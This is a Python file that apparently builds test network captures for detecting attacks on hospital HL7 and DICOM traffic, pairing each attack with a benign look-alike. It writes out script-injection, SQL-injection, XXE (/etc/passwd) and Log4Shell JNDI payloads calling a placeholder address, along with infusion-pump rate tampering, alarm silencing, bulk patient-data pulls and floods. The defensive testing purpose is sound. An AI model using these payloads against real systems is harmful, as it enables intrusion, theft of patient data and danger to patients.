# SPDX-License-Identifier: Apache-2.0
"""HL7, DICOM, laboratory and SDC. Message texts are ours; all people are invented."""
import os
import struct

from hosts import (ANALYZER, ENGINE, LIS, OUTSIDE, PACS, PUMP_SERVER, ROGUE, SCANNER)
from wire import Wire, readdress

PCAPS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")


# --- HL7 over MLLP -----------------------------------------------------------

def block(text):
    return b"\x0b" + text.replace("\n", "\r").encode("latin-1") + b"\r\x1c\r"


def msh(kind, ident, app="LAB", encoding="^~\\&"):
    return (f"MSH|{encoding}|{app}|HOSPITAL|ENGINE|HOSPITAL|20251126000000||{kind}|{ident}|P|"
            "2.5.1")


def ack(kind, ident, code):
    return block(msh(kind, "A" + ident, "ENGINE") + f"\nMSA|{code}|{ident}")


def result(ident, text, **more):
    return block(msh("ORU^R01^ORU_R01", ident, **more) +
                 "\nPID|1||900001^^^HOSPITAL||DOE^JANE\nOBR|1|||CHEM\n"
                 f"OBX|1|ST|NOTE||{text}||||||F")


def results(*texts, client=ENGINE):
    wire = Wire()
    says = []
    for number, text in enumerate(texts):
        ident = "R%05d" % number
        says += [(">", result(ident, text)), ("<", ack("ACK^R01^ACK", ident, "AA"))]
    wire.talk(client, LIS, 2575, says)
    return wire


def exchange(messages, client=ENGINE, server=LIS, port=2575, pause=0.0):
    """[(message, answer)] on one connection; None: no answer."""
    wire = Wire()
    talk = wire.talk(client, server, port, close=False)
    for message, answer in messages:
        talk.say(">", message)
        if answer:
            talk.say("<", answer)
        wire.wait(pause)
    talk.close()
    return wire


def order(number, rate="125"):
    ident = "P%05d" % number
    text = (msh("RGV^O15^RGV_O15", ident, "BCMA") + "\nPID|1||900001^^^HOSPITAL||DOE^JANE\n"
            f"ORC|RE|{number}^BCMA\nRXG|1||20251126|HEPARIN^Heparin|500||263762^MDC_DIM_MILLI_L^MDC"
            f"||||||||{rate}|265266^MDC_DIM_MILLI_L_PER_HR^MDC\n"
            "OBX|1||69986^MDC_DEV_PUMP_INFUS_VMD^MDC||||||||||||||||0001020304050607^^0001020304050607^EUI-64")
    return block(text), ack("ACK^O15^ACK", ident, "CA")


def alarm(number, state):
    ident = "L%05d" % number
    text = (msh("ORU^R40^ORU_R40", ident, "ALARM") + "\nPID|1||900001^^^HOSPITAL||DOE^JANE\n"
            "OBR|1|1^ALARM|1^ALARM|196616^MDC_EVT_ALARM^MDC|||20251126000000\n"
            "OBX|1|CWE|196670^MDC_EVT_LO^MDC|1.0.0.0.1|||||||||||||||0001020304050607^^0001020304050607^EUI-64\n"
            "OBX|2|ST|68481^MDC_ATTR_EVENT_PHASE^MDC|1.0.0.0.2|continue||||||F\n"
            f"OBX|3|ST|68483^MDC_ATTR_ALARM_INACTIVATION_STATE^MDC|1.0.0.0.3|{state}||||||F")
    return block(text), ack("ACK^R40^ACK", ident, "CA")


def query(number):
    ident = "Q%05d" % number
    return (block(msh("QBP^Q22^QBP_Q21", ident, "PORTAL") +
                  f"\nQPD|Q22^Find Candidates|{ident}|@PID.3.1^{900000 + number}\nRCP|I"),
            block(msh("RSP^K22^RSP_K21", "A" + ident, "EMPI") + f"\nMSA|AA|{ident}\nQAK|{ident}|NF"))


def event(number, what):
    ident = "E%05d" % number
    text = (msh("ORU^R42^ORU_R01", ident, "PUMPGW") + "\nPID|1||900001^^^HOSPITAL||DOE^JANE\n"
            f"OBR|1|1^PUMPGW|1^PUMPGW|{what}^MDC|||20251126000000\n"
            f"OBX|1|CWE|68487^MDC_ATTR_EVT_COND^MDC|1.0.0.0.1|{what}^MDC||||||F")
    return block(text), ack("ACK^R42^ACK", ident, "CA")


def hl7():
    yield "hl7-script", results("Normal <script src=//x/a.js></script>")
    yield "hl7-script.not", results("Normal. Script renewed, see description")
    yield "hl7-sql", results("x' OR '1'='1")
    yield "hl7-sql.not", results("patient's choice or 1 = 1 tablet")
    yield "hl7-doctype", results('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')
    yield "hl7-doctype.not", results("document type: letter")
    yield "hl7-jndi-nested", results("${${lower:j}ndi:ldap://203.0.113.9/a}")
    yield "hl7-nested-block", exchange([
        (result("N1", "first"), ack("ACK^R01^ACK", "N1", "AA")),
        (result("N2", "second")[:-20] + result("N3", "third"), None)])
    yield "hl7-odd-delimiters", exchange([
        (result("D1", "x", encoding="^^\\&"), ack("ACK^R01^ACK", "D1", "AA"))])
    yield "hl7-odd-delimiters.not", exchange([
        (result("D1", "x", encoding="^~\\&"), ack("ACK^R01^ACK", "D1", "AA"))])
    many = msh("ORU^R01^ORU_R01", "M1") + "".join("\nNTE|%d" % n for n in range(4200))
    yield "hl7-many-segments", exchange([(block(many), None)])
    yield "hl7-pump-order-outside", exchange([order(1)], client=OUTSIDE, server=PUMP_SERVER,
                                             port=3001)
    yield "hl7-pump-order-outside.not", exchange([order(1)], server=PUMP_SERVER, port=3001)
    yield "hl7-pump-order-burst", exchange([order(n) for n in range(25)], port=3001,
                                           server=PUMP_SERVER, pause=1.0)
    yield "hl7-pump-order-burst.not", exchange([order(n) for n in range(25)], port=3001,
                                               server=PUMP_SERVER, pause=20.0)
    yield "hl7-pump-rate", exchange([order(1, "1500.5")], server=PUMP_SERVER, port=3001)
    yield "hl7-pump-rate.not", exchange([order(1, "999")], server=PUMP_SERVER, port=3001)
    yield "hl7-alarms-off", exchange([alarm(n, "alarm-off") for n in range(6)], port=3000,
                                     pause=5.0)
    yield "hl7-alarms-off.not", exchange([alarm(n, "audio-paused") for n in range(6)],
                                         port=3000, pause=5.0)
    nak = b"\x0b\x15\x1c\r"
    yield "hl7-commit-naks", exchange([(result("K%d" % n, "x"), nak) for n in range(5)])
    yield "hl7-query-sweep", exchange([query(n) for n in range(40)], pause=1.0)
    yield "hl7-query-sweep.not", exchange([query(n) for n in range(40)], pause=20.0)
    yield "hl7-leaves", readdress(os.path.join(PCAPS, "hl7", "adt-oru.pcap"),
                                  {"10.77.0.10": OUTSIDE})
    yield "hl7-enters", readdress(os.path.join(PCAPS, "hl7", "adt-oru.pcap"),
                                  {"10.77.0.21": OUTSIDE})
    yield "hl7-pump-clock", exchange([event(1, "68500^MDC_EVT_DEVICE_TIME_CHANGED")],
                                     port=3000)


# --- DICOM upper layer -------------------------------------------------------

def item(kind, body):
    return struct.pack("!BBH", kind, 0, len(body)) + body


def associate(called, calling, classes, uid="1.2.276.0.7230010.3.0.3.6.7",
              version="OFFIS_DCMTK_367", kind=1):
    body = struct.pack("!HH", 1, 0) + called.ljust(16).encode() + calling.ljust(16).encode()
    body += bytes(32) + item(0x10, b"1.2.840.10008.3.1.1.1")
    for number, syntax in enumerate(classes):
        body += item(0x20 if kind == 1 else 0x21, bytes([2 * number + 1, 0, 0, 0]) +
                     (item(0x30, syntax.encode()) if kind == 1 else b"") +
                     item(0x40, b"1.2.840.10008.1.2"))
    body += item(0x50, item(0x51, struct.pack("!I", 16384)) + item(0x52, uid.encode()) +
                 item(0x55, version.encode()))
    return struct.pack("!BBI", kind, 0, len(body)) + body


REJECT = bytes.fromhex("03000000000400010107")
ABORT = bytes.fromhex("07000000000400000200")
RELEASE, RELEASED = bytes.fromhex("05000000000400000000"), bytes.fromhex("06000000000400000000")
ECHO, CT, FIND = "1.2.840.10008.1.1", "1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.5.1.4.1.2.2.1"


def element(group, number, value):
    return struct.pack("<HHI", group, number, len(value)) + value


def even(text):
    return text.encode() + (b"\0" if len(text) % 2 else b"")


def command(fields, context=1):
    body = b"".join(element(0, number, value) for number, value in fields)
    body = element(0, 0, struct.pack("<I", len(body))) + body
    return struct.pack("!BBIIBB", 4, 0, len(body) + 6, len(body) + 2, context, 3) + body


def dataset(body, context=1):
    return struct.pack("!BBIIBB", 4, 0, len(body) + 6, len(body) + 2, context, 2) + body


def us(number):
    return struct.pack("<H", number)


def association(wire, classes, says, client=SCANNER, server=PACS, called="PACS", port=104,
                calling="CT01", **more):
    wire.talk(client, server, port, [
        (">", associate(called, calling, classes, **more)),
        ("<", associate(called, calling, classes, kind=2))] + says +
        [(">", RELEASE), ("<", RELEASED)])


def echo_says():
    return [(">", command([(2, even(ECHO)), (0x100, us(0x30)), (0x110, us(1)),
                           (0x800, us(0x101))])),
            ("<", command([(2, even(ECHO)), (0x100, us(0x8030)), (0x120, us(1)),
                           (0x800, us(0x101)), (0x900, us(0))]))]


def find_says(pending, name=""):
    keys = element(8, 0x52, b"STUDY ") + element(0x10, 0x10, even(name)) + \
        element(0x10, 0x20, b"")
    says = [(">", command([(2, even(FIND)), (0x100, us(0x20)), (0x110, us(1)), (0x700, us(0)),
                           (0x800, us(1))]) + dataset(keys))]
    for _ in range(pending):
        says.append(("<", command([(2, even(FIND)), (0x100, us(0x8020)), (0x120, us(1)),
                                   (0x800, us(1)), (0x900, us(0xFF00))]) +
                     dataset(element(8, 0x52, b"STUDY ") + element(0x10, 0x20, b"900001"))))
    return says + [("<", command([(2, even(FIND)), (0x100, us(0x8020)), (0x120, us(1)),
                                  (0x800, us(0x101)), (0x900, us(0))]))]


MOVE = "1.2.840.10008.5.1.4.1.2.2.2"
PDF = "1.2.840.10008.5.1.4.1.1.104.1"


def move_says(destination, status=0):
    keys = element(8, 0x52, b"STUDY ") + element(0x20, 0xD, even("1.2.3.4"))
    return [(">", command([(2, even(MOVE)), (0x100, us(0x21)), (0x110, us(1)),
                           (0x600, destination.ljust(16).encode()), (0x700, us(0)),
                           (0x800, us(1))]) + dataset(keys)),
            ("<", command([(2, even(MOVE)), (0x100, us(0x8021)), (0x120, us(1)),
                           (0x800, us(0x101)), (0x900, us(status))]))]


def store_says(sop_class, modality, document=b"%PDF-1.4 "):
    body = element(8, 0x16, even(sop_class)) + element(8, 0x18, even("1.2.3.4.5")) + \
        element(8, 0x60, modality) + element(0x10, 0x10, b"DOE^JANE") + \
        element(0x42, 0x11, document + bytes(len(document) % 2))
    return [(">", command([(2, even(sop_class)), (0x100, us(1)), (0x110, us(1)),
                           (0x700, us(0)), (0x800, us(1)), (0x1000, even("1.2.3.4.5"))]) +
             dataset(body)),
            ("<", command([(2, even(sop_class)), (0x100, us(0x8001)), (0x120, us(1)),
                           (0x800, us(0x101)), (0x900, us(0)), (0x1000, even("1.2.3.4.5"))]))]


def dicom():
    wire = Wire()
    association(wire, [ECHO], echo_says(), ROGUE, called="ANY-SCP", calling="ECHOSCU",
                uid="1.2.276.0.7230010.3.0.3.6.2", version="OFFIS_DCMTK_362")
    yield "dicom-nmap", wire
    wire = Wire()
    association(wire, [ECHO], echo_says(), called="ANY-SCP", calling="ECHOSCU")
    yield "dicom-nmap.not", wire
    wire = Wire()
    association(wire, [ECHO, "1.2.840..10008.5.1"], echo_says())
    yield "dicom-bad-uid", wire
    wire = Wire()
    association(wire, [FIND], find_says(250), ROGUE)
    yield "dicom-bulk-find", wire
    wire = Wire()
    association(wire, [FIND], find_says(20))
    yield "dicom-bulk-find.not", wire
    wire = Wire()
    for number in range(25):
        association(wire, [MOVE], move_says("WARD"), ROGUE)
    yield "dicom-bulk-move", wire
    wire = Wire()
    for number in range(25):
        association(wire, [MOVE], move_says("WARD"))
        wire.wait(60)
    yield "dicom-bulk-move.not", wire
    wire = Wire()
    association(wire, [PDF], store_says(PDF, b"CT"))
    yield "dicom-pdf-from-ct", wire
    wire = Wire()
    for number in range(12):
        wire.talk(ROGUE, PACS, 104, [(">", associate("PACS", "CT01", [CT])),
                                     ("<", associate("PACS", "CT01", [CT], kind=2)),
                                     (">", ABORT)])
    yield "dicom-aborts", wire
    wire = Wire()
    for number in range(120):
        wire.talk(ROGUE, PACS, 104, [(">", associate("PACS", "CT01", [CT]))])
    yield "dicom-flood", wire
    wire = Wire()
    association(wire, [FIND], find_says(0, "${jndi:ldap://203.0.113.9/a}"), ROGUE)
    yield "dicom-jndi", wire
    wire = Wire()
    association(wire, [ECHO], [(">", bytes.fromhex("04000000000affffffff0103")),
                               ("<", ABORT)])
    yield "dicom-broken-length", wire
    store = os.path.join(PCAPS, "dicom", "store-ct.pcap")
    yield "dicom-leaves", readdress(store, {"10.77.0.10": OUTSIDE})
    yield "dicom-enters", readdress(store, {"10.77.0.21": OUTSIDE})


def captures():
    yield from hl7()
    yield from dicom()
